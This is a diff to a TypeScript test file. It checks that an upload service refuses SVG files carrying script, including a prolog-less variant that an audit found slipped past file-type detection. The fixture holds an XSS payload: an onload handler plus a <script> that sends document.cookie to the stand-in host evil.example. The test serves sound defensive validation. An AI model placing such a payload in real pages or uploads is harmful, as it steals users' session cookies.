@@ -16,8 +16,11 @@ import { useHttpStack } from '../support/http-stack.js';
 import { callError, callOk } from '../support/mcp-clients.js';
 
 const b64 = (text: string) => Buffer.from(text).toString('base64');
-const SCRIPTED_SVG = (id: string) =>
-  `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${id}')">` +
+/** An SVG that runs script when opened; with an XML prolog (file-type says application/xml) or without
+ * (file-type says nothing: the audit's bypass, checked against the declared type). */
+const SCRIPTED_SVG = (id: string, prolog = true) =>
+  `${prolog ? '<?xml version="1.0" encoding="UTF-8"?>\n' : ''}` +
+  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${id}')">` +
   '<script>fetch("https://evil.example/"+document.cookie)</script></svg>';
 
 interface Uploaded {
@@ -77,12 +80,17 @@ describe('bucket rules that hold, at the door', () => {
   });
 
   it('an SVG with onload and <script> is refused by image/*, declared or not', async () => {
-    for (const contentType of ['image/svg+xml', 'image/png', undefined]) {
+    for (const [contentType, prolog] of [
+      ['image/svg+xml', false],
+      ['image/svg+xml', true],
+      ['image/png', false],
+      [undefined, true],
+    ] as const) {
       expect(
         await callError(t.mcp, 'upload_file', {
           bucket: 'images',
           filename: 'logo.svg',
-          content: b64(SCRIPTED_SVG(uniqueName('svg'))),
+          content: b64(SCRIPTED_SVG(uniqueName('svg'), prolog)),
           ...(contentType && { contentType }),
         }),
       ).toBe(
